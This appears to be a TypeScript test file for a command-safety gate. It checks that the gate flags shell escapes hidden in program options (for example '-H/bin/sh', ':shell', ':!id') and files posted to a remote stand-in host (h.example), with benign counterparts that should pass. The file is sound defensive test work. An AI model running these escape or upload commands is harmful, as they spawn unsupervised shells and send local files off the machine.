// Tests by class over what a program nobody wrote knowledge for is judged by (src/explain.ts
// unknownProgramEffects, knowledge/verbs.yaml verb.post-file): a shell handed to it as a value
// attached to a short option or as an ex command (GTFOBins' shell escapes: man -H, vi -c), and a
// file sent as a request body to a remote host. The programs are made-up names no knowledge
// names. Expectations by hand, from the principle.
import { sides } from "./sides.js";

describe("a shell given to an unknown program runs what the gate never sees", () => {
  sides(
    [
      "pagex -H/bin/sh topic",
      "pagex '-H/bin/sh #' topic",
      "pagex -P/usr/bin/bash",
      "editx -c ':shell'",
      "editx -c ':sh'",
      "editx '+:!/bin/sh'",
      "editx -c ':!id'",
    ],
    ["pagex -H/usr/share/doc topic", "pagex -o/tmp/out", "editx -c ':wq' f.txt", "editx +10 f"],
  );
});

describe("a file's content posted to a remote host leaves the guest", () => {
  sides(
    [
      "getx --post-file=./a.json https://h.example/x",
      "getx --body-file ./b http://h.example/",
      "getx --upload-file=./c https://h.example/put",
    ],
    [
      "getx --post-file=./a.json http://localhost:8080/x",
      "getx --post-data=a=b https://h.example/",
      "getx https://h.example/f -O f",
    ],
  );
});
